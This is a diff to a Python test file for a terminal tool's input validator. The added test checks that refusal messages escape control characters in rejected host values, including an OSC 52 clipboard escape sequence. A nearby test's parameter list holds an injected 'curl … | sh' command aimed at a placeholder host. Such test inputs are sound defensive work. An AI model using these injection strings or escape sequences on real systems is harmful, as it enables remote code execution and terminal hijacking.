@@ -40,6 +40,21 @@ def test_a_hostile_value_is_refused_with_its_name_and_why(kind, value):
     assert "\n" not in refused.value.reason  # one line, the value's control characters shown escaped
 
 
+def test_a_refusal_quotes_the_value_as_the_list_shows_it():
+    """Walk: an endpoint shown as `\\x00\\x9b31m` in a list (its control characters made visible when
+    read) was quoted `\\\\x00\\\\x9b31m` in the refusal (escaped twice)."""
+    from tui.api.safe import clean
+    from tui.products.commands import host
+
+    shown = clean("rg.example\x00\x9b31m")  # as the answer was cleaned when read
+    with pytest.raises(CommandRefused) as refused:
+        host("the registry host", shown).checked()
+    assert f"'{shown}'" in refused.value.reason
+    with pytest.raises(CommandRefused) as refused:
+        host("the registry host", "rg\x1b]52;c;SGk=\x07").checked()  # a raw one: made visible once
+    assert "'rg\\x1b]52;c;SGk=\\x07'" in refused.value.reason
+
+
 @pytest.mark.parametrize(
     "value", ["100; curl -s evil.example/x | sh; echo", "0", "4095", "1e3", "-", "12-", "", None, " 100"]
 )
